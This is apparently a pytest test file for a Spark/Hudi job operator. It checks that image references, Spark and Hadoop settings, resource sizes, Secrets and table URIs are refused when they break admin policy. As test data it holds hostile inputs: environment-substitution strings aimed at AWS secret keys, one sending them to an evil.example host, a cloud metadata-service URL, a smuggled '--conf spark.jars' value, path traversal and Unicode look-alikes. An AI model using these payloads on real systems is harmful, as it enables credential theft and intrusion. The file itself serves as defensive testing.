    ("registry.example/hudi-job:1:2", False, "two tags"),
    ("registry.example/hudi-job:" + "1" * 129, False, "a tag longer than 128"),
    ("registry.example/hudi-job@sha256:abc", False, "a digest too short"),
    ("registry.example/hudi-job@sha256:" + "A" * 64, False, "a digest in upper case"),
    ("registry.example/hudi-job@md5:" + "0" * 32, False, "an unknown digest algorithm"),
    ("docker.io/library/python:3", False, "not on the allowlist"),
]


@pytest.mark.parametrize(("image", "allowed", "why"), IMAGES_TRIED, ids=[repr(i) for i, _, _ in IMAGES_TRIED])
def test_each_image_tried_is_allowed_by_the_rule_as_documented_or_refused(
    image: str, allowed: bool, why: str
) -> None:
    assert image_allowed(image, IMAGE_POLICY) is allowed, why
    if not allowed:
        with pytest.raises(ImageNotAllowedError, match=re.escape(repr(image))):
            job_settings(SparkSection.model_validate({"image": image}), IMAGE_POLICY)


@pytest.mark.parametrize(("image", "allowed", "why"), IMAGES_TRIED, ids=[repr(i) for i, _, _ in IMAGES_TRIED])
def test_admission_refuses_each_image_that_is_no_reference(image: str, allowed: bool, why: str) -> None:
    refused = ADMISSION.errors(table({"image": image}))
    assert bool(refused) is (images.reference(image) is None), (why, refused)


def test_the_crds_image_rule_is_the_operators_grammar() -> None:
    assert _crd_rule("image") == f"self == '' || self.matches('^{images.REFERENCE.pattern}$')".replace(
        "\\", "\\\\"
    )


LOOK_ALIKES = (
    "\u0430\u0435\u043e\u0440\u0441\u0443\u0445\u0456\u0458\uff41\uff4f\u2010\u2011\u2212\u00b7\u0131"
)
WHITESPACE = " \t\n\r\x0b\x0c\u00a0\u2000\u2028\u200b\u3000\ufeff"


@settings(max_examples=300, deadline=None)
@given(
    image=st.sampled_from([image for image, allowed, _ in IMAGES_TRIED if allowed]),
    where=st.integers(min_value=0),
    inserted=st.sampled_from(LOOK_ALIKES + WHITESPACE),
)
def test_an_allowed_image_with_any_look_alike_or_whitespace_is_refused(
    image: str, where: int, inserted: str
) -> None:
    at = where % (len(image) + 1)
    for attack in (image[:at] + inserted + image[at:], image[:at] + inserted + image[at + 1 :]):
        assert not image_allowed(attack, IMAGE_POLICY), attack


@settings(max_examples=300, deadline=None)
@given(image=st.sampled_from([image for image, allowed, _ in IMAGES_TRIED if allowed]), where=st.integers(0))
def test_an_allowed_image_with_upper_case_in_its_name_is_refused(image: str, where: int) -> None:
    parts = images.reference(image)
    assert parts is not None
    name = parts["name"]
    letters = [i for i, c in enumerate(name) if c.isalpha()]
    at = letters[where % len(letters)]
    assert not image_allowed(image[:at] + image[at].upper() + image[at + 1 :], IMAGE_POLICY)


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=80))
def test_whatever_the_text_an_admitted_image_is_a_lower_case_ascii_reference_under_an_entry(
    text: str,
) -> None:
    for image in (text, f"registry.example/hudi-job{text}", f"mirror.example/lake/{text}"):
        if not image_allowed(image, IMAGE_POLICY) or image == IMAGE_POLICY.image:
            continue
        assert image.isascii()
        assert not any(c.isspace() for c in image)
        assert unicodedata.normalize("NFKC", image) == image
        parts = images.reference(image)
        assert parts is not None
        name = parts["name"]
        assert name == name.lower()
        assert ".." not in name
        assert "//" not in name
        assert (
            name == "registry.example/hudi-job"
            or name.startswith(("registry.example/hudi-job/", "mirror.example/lake/"))
            or image == "pinned.example/job:1.0"
        )


@pytest.mark.parametrize(
    "entry",
    [
        "Registry.example/job",
        "registry.example/job ",
        "registry.example/../job",
        "mirror.example/lake//",
        "/",
    ],
)
def test_an_allowlist_entry_that_admits_no_reference_stops_the_operator(entry: str) -> None:
    with pytest.raises(ValueError, match="allowedImages"):
        changed(DEFAULTS, allowed_images=(entry,))


# --- the values of the settings ---------------------------------------------------------------------------

PLANTED = "pl4nted-s3cret"  # a value that must never be echoed: it may be a credential pasted by mistake
BAD_VALUES = [
    "${env:AWS_SECRET_ACCESS_KEY}",  # Spark's substitution of the job's environment
    "${env.AWS_SECRET_ACCESS_KEY}",  # Hadoop's
    "x${sys:user.home}",
    PLANTED,
    "1e9",
    "-5",
    "true; --conf spark.jars=x",
    "2g\n",
    "",
]


@pytest.mark.parametrize("rule", [*SPARK_CONF_ALLOWED, *HADOOP_CONF_ALLOWED], ids=lambda rule: rule.key)
def test_each_allowed_key_takes_its_kind_of_value_and_refuses_others_without_echoing_them(
    rule: Setting,
) -> None:
    assert rule.value is not None  # every built-in key is typed
    where = "sparkConf" if rule in SPARK_CONF_ALLOWED else "hadoopConf"
    assert refusal({where: {rule.key: rule.value.example}}) == ""
    for bad in BAD_VALUES:
        if rule.value.matches(bad):  # "-5" is some keys' "none" (autoBroadcastJoinThreshold takes -1 only)
            continue
        said = refusal({where: {rule.key: bad}})
        assert f"{where}[{rule.key!r}]" in said, (rule.key, bad)
        assert bad.strip() == "" or bad not in said
        assert PLANTED not in said


def test_no_value_may_hold_a_substitution_whoever_allows_its_key() -> None:
    defaults = changed(
        DEFAULTS, allowed_hadoop_conf=("fs.s3a.endpoint",), allowed_spark_conf=("spark.ui.port",)
    )
    spark = {
        "hadoopConf": {"fs.s3a.endpoint": "https://${env.AWS_SECRET_ACCESS_KEY}.evil.example"},
        "sparkConf": {"spark.ui.port": "${env:PASSWORD}", "spark.hadoop.fs.s3a.connection.maximum": "${x}"},
    }
    said = refusal(spark, defaults)
    assert said.count("holds '${'") == 3, said
    assert "evil.example" not in said
    assert "PASSWORD" not in said
    assert refusal({"hadoopConf": {"fs.s3a.endpoint": "https://s3.example"}}, defaults) == ""
    # Admission refuses it too, for every key: no admin may allow it.
    for where, conf in spark.items():
        assert any("must not hold '${'" in e for e in ADMISSION.errors(table({where: conf}))), where


def resources_refusal(spark: dict[str, Any], defaults: JobDefaults = DEFAULTS) -> str:
    """What the operator says when the pods this spec.spark asks for are over the admins' limits."""
    try:
        job_settings(SparkSection.model_validate(spark), defaults)
    except ResourcesNotAllowedError as err:
        return str(err)
    return ""


# (spec.spark, refused?): the pod is the heap and what Spark adds to it (the jobs are PySpark, so the
# overhead is 0.4 of the heap, at least 384 MiB, unless set); the admins' limits are 16g and 32g.
PODS = [
    ({"executor": {"memory": "22g"}}, False),  # 22g + 8.8g overhead = 30.8g
    ({"executor": {"memory": "23g"}}, True),  # 23g + 9.2g = 32.2g
    ({"executor": {"memory": "31g"}, "sparkConf": {"spark.executor.memoryOverhead": "1g"}}, False),
    ({"executor": {"memory": "31g"}, "sparkConf": {"spark.executor.memoryOverhead": "1025m"}}, True),
    ({"executor": {"memory": "31g"}, "sparkConf": {"spark.executor.memoryOverhead": "1025"}}, True),  # MiB
    ({"executor": {"memory": "28g"}, "sparkConf": {"spark.executor.memoryOverheadFactor": "0.1"}}, False),
    ({"executor": {"memory": "30g"}, "sparkConf": {"spark.kubernetes.memoryOverheadFactor": "0.1"}}, True),
    ({"executor": {"memory": "16g"}, "sparkConf": {"spark.executor.memoryOverheadFactor": "1"}}, False),
    ({"executor": {"memory": "17g"}, "sparkConf": {"spark.executor.memoryOverheadFactor": "1"}}, True),
    # The issue's 128g pod: 32g + 32g overhead + 32g off-heap + 32g Python, against a 32g limit.
    ({"executor": {"memory": "32g"}, "sparkConf": {"spark.executor.memoryOverhead": "32g",
      "spark.memory.offHeap.enabled": "true", "spark.memory.offHeap.size": "32g",
      "spark.executor.pyspark.memory": "32g"}}, True),
    ({"executor": {"memory": "8g"}, "sparkConf": {"spark.executor.memoryOverhead": "8g",
      "spark.memory.offHeap.enabled": "true", "spark.memory.offHeap.size": "8589934592",  # bytes: 8g
      "spark.executor.pyspark.memory": "8g"}}, False),
    ({"executor": {"memory": "8g"}, "sparkConf": {"spark.executor.memoryOverhead": "8g",
      "spark.memory.offHeap.size": "99999g", "spark.executor.pyspark.memory": "8g"}}, False),  # off-heap off
    ({"driver": {"memory": "11g"}}, False),  # 11g + 4.4g = 15.4g
    ({"driver": {"memory": "12g"}}, True),
    ({"driver": {"memory": "1g"}, "sparkConf": {"spark.driver.memoryOverhead": "15g"}}, False),
    ({"driver": {"memory": "1g"}, "sparkConf": {"spark.driver.memoryOverhead": "16g"}}, True),
    # An executor's off-heap and Python memory are not the driver's.
    ({"driver": {"memory": "2g"}, "sparkConf": {"spark.memory.offHeap.enabled": "true",
      "spark.memory.offHeap.size": "13g"}}, False),
]  # fmt: skip


@pytest.mark.parametrize(("asked", "refused"), PODS)
def test_a_pods_memory_is_what_spark_asks_for_it_and_is_bounded_by_the_admins_limit(
    asked: dict[str, Any], refused: bool
) -> None:
    said = resources_refusal(asked)
    assert bool(said) is refused, said
    if refused:
        assert "with what Spark adds to its pod: " in said
        assert " overhead" in said
        assert " = " in said


@pytest.mark.parametrize("look_alike", ["40000000\u212a", "4\u212ab", "1\uff47", "\u0661g", "32g\u200b"])
@pytest.mark.parametrize(
    "key",
    ["spark.executor.memoryOverhead", "spark.driver.memoryOverhead", "spark.memory.offHeap.size",
     "spark.executor.pyspark.memory", "spark.sql.files.maxPartitionBytes"],
)  # fmt: skip
def test_a_size_is_read_in_ascii_as_spark_reads_it_and_one_the_policy_cannot_read_is_refused(
    key: str, look_alike: str
) -> None:
    """Java lower-cases the KELVIN SIGN to 'k': 40000000\u212a would be 38 GiB to Spark, which a
    Unicode-aware check then could not size."""
    said = refusal({"sparkConf": {key: look_alike}})
    assert f"sparkConf[{key!r}] must be a size in Spark's format" in said, said


# --- resources --------------------------------------------------------------------------------------------


def test_a_driver_or_executors_over_the_admins_limits_are_refused_naming_each() -> None:
    driver = {"cores": 5, "memory": "99999999g"}
    spark = {"driver": driver, "executor": {"cores": 256, "memory": "33g", "instances": 1000}}
    said = resources_refusal({**spark, "ttlSeconds": 31536000})
    for problem in (
        "spec.spark.driver.cores 5 is over 4",
        "spec.spark.driver.memory 99999999g is over 16g with what Spark adds to its pod: ",
        "spec.spark.executor.cores 256 is over 8",
        "spec.spark.executor.memory 33g is over 32g with what Spark adds to its pod: 33.0 GiB heap + "
        "13.2 GiB overhead = 46.2 GiB",
        "spec.spark.executor.instances 1000 is over 50",
        "spec.spark.ttlSeconds 31536000 is over 604800",
    ):
        assert problem in said
    at_most = SparkSection.model_validate(
        {"driver": {"cores": 4, "memory": "11g"}, "executor": {"cores": 8, "memory": "22g", "instances": 50},
         "ttlSeconds": 604800}
    )  # fmt: skip
    assert job_settings(at_most, DEFAULTS).executor == Resources(8, "22g", 50)
    wider = changed(
        DEFAULTS, max_executor_cores=256, max_executor_memory="1t", max_executor_instances=1000,
        max_ttl_seconds=31536000,
    )  # fmt: skip
    job_settings(SparkSection.model_validate({**spark, "driver": {}, "ttlSeconds": 31536000}), wider)


def test_defaults_over_the_limits_stop_the_operator_at_start() -> None:
    with pytest.raises(ValueError, match=r"the default job is over jobs\.limits"):
        changed(DEFAULTS, executor_memory="64g")


# --- Secrets and table URIs, by namespace -----------------------------------------------------------------


DEFAULT_POLICY = Policy(DEFAULTS)


def admitted(spec: dict[str, Any], namespace: str = "lake", policy: Policy = DEFAULT_POLICY) -> str:
    """What ``admit`` says of a spec ("" when it admits it)."""
    try:
        admit(parse_spec(spec), namespace, policy)
    except InvalidSpecError as err:
        return f"{type(err).__name__}: {err}"
    return ""


SECRETS = Policy(changed(DEFAULTS, allowed_secrets={"lake": ("lake-s3",), "*": ("shared-ro",)}))


@pytest.mark.parametrize(
    ("secret", "namespace", "policy", "allowed"),
    [
        ("lake-s3", "lake", DEFAULT_POLICY, False),  # none by default
        ("lake-s3", "lake", SECRETS, True),
        ("lake-s3", "sales", SECRETS, False),  # another namespace's
        ("shared-ro", "sales", SECRETS, True),  # every namespace's
        ("cluster-admin-token", "lake", SECRETS, False),
        ("lake-s3-admin", "lake", SECRETS, False),
    ],
)
def test_a_secret_becomes_a_jobs_environment_only_if_the_admins_list_it_for_the_namespace(
    secret: str, namespace: str, policy: Policy, allowed: bool
) -> None:
    said = admitted(
        with_spec(SMALL, "spark", {"envFromSecrets": [{"name": secret}]})["spec"], namespace, policy
    )
    assert (said == "") is allowed, said
    if not allowed:
        assert said.startswith("SecretNotAllowedError: spec.spark.envFromSecrets names Secret(s)")
        assert repr(secret) in said
        assert repr(namespace) in said


TEAMS = Policy(changed(DEFAULTS, allowed_table_uris={"*": (), "team-a": ("s3a://lake/team-a", "/data/a/")}))
# (uri, namespace, policy, admitted?): each attack on the rule, and what the rule says of it.
URIS_TRIED = [
    ("s3a://lake/warehouse/orders", "lake", DEFAULT_POLICY, True),
    ("/data/orders", "lake", DEFAULT_POLICY, True),
    ("file:///data/orders", "lake", DEFAULT_POLICY, True),
    ("file:/data/orders", "lake", DEFAULT_POLICY, True),
    (
        "http://169.254.169.254/latest/meta-data/iam",
        "lake",
        DEFAULT_POLICY,
        False,
    ),  # the node's metadata service
    ("https://evil.example/table", "lake", DEFAULT_POLICY, False),
    ("hdfs://namenode/warehouse/orders", "lake", DEFAULT_POLICY, False),  # not by default
    ("s3://lake/orders", "lake", DEFAULT_POLICY, False),
    ("S3A://lake/orders", "lake", DEFAULT_POLICY, False),  # compared as written
    ("data/orders", "lake", DEFAULT_POLICY, False),  # relative: to the job's working directory
    ("s3a://key:s3cret@lake/orders", "lake", DEFAULT_POLICY, False),  # credentials in the URI
    ("s3a://lake/warehouse/../../other/orders", "lake", DEFAULT_POLICY, False),
    ("/data/./orders", "lake", DEFAULT_POLICY, False),
    ("s3a://lake/or ders", "lake", DEFAULT_POLICY, False),
    ("s3a://lake/or\\ders", "lake", DEFAULT_POLICY, False),
    ("s3a://lake/or\nders", "lake", DEFAULT_POLICY, False),
    ("s3a://lake/${env:AWS_SECRET_ACCESS_KEY}/t", "lake", DEFAULT_POLICY, False),  # Spark SQL would read it
    ("/data/${env:HOME}", "lake", DEFAULT_POLICY, False),
    ("s3a://lake/or\x9bders", "lake", DEFAULT_POLICY, False),  # a C1 control (CSI)
    ("/data/team-a/../team-b/x://y", "lake", DEFAULT_POLICY, False),  # a '://' further in is a path
    ("/data/x://y@z/t", "lake", DEFAULT_POLICY, True),  # no authority: '@' is part of a folder's name
    ("s3a://lake/orders", "lake", Policy(), False),  # the operator's default: nowhere
    ("s3a://lake/team-a", "team-a", TEAMS, True),
    ("s3a://lake/team-a/orders", "team-a", TEAMS, True),
    ("s3a://lake/team-ab/orders", "team-a", TEAMS, False),  # the prefix of a name is not its folder
    ("s3a://lake/team-b/orders", "team-a", TEAMS, False),  # another team's table in the same bucket
    ("s3a://lake/team-a/../team-b/orders", "team-a", TEAMS, False),
    ("s3a://lake/team-a/orders", "team-b", TEAMS, False),  # the prefix is team-a's only
    ("/data/a/orders", "team-a", TEAMS, True),
    ("/data/ab/orders", "team-a", TEAMS, False),
]


@pytest.mark.parametrize(
    ("uri", "namespace", "policy", "allowed"), URIS_TRIED, ids=[repr(u[0]) for u in URIS_TRIED]
)
def test_a_table_is_only_where_the_admins_let_its_namespace_have_tables(
    uri: str, namespace: str, policy: Policy, allowed: bool
) -> None:
    said = admitted(with_spec(SMALL, "table.uri", uri)["spec"], namespace, policy)
    assert (said == "") is allowed, said
    if not allowed:  # refused by the spec's own model when no admin could allow it ('${', controls)
        assert said.startswith(
            ("TableUriNotAllowedError: spec.table.uri ", "InvalidSpecError: spec.table.uri ")
        )
        assert "HOME" not in said
        assert "\x9b" not in said


def test_no_table_is_allowed_until_the_admins_name_where_each_namespaces_tables_are() -> None:
    said = admitted(SMALL["spec"], "lake", Policy())
    assert said.startswith(
        "TableUriNotAllowedError: spec.table.uri 's3a://lake/warehouse/customers' is not where tables of "
        "this namespace may be: the admins allow them nowhere yet (no table is allowed until they name where "
        "each namespace's tables are: Helm values jobs.allowedTableUris, HBO_ALLOWED_TABLE_URIS)"
    )
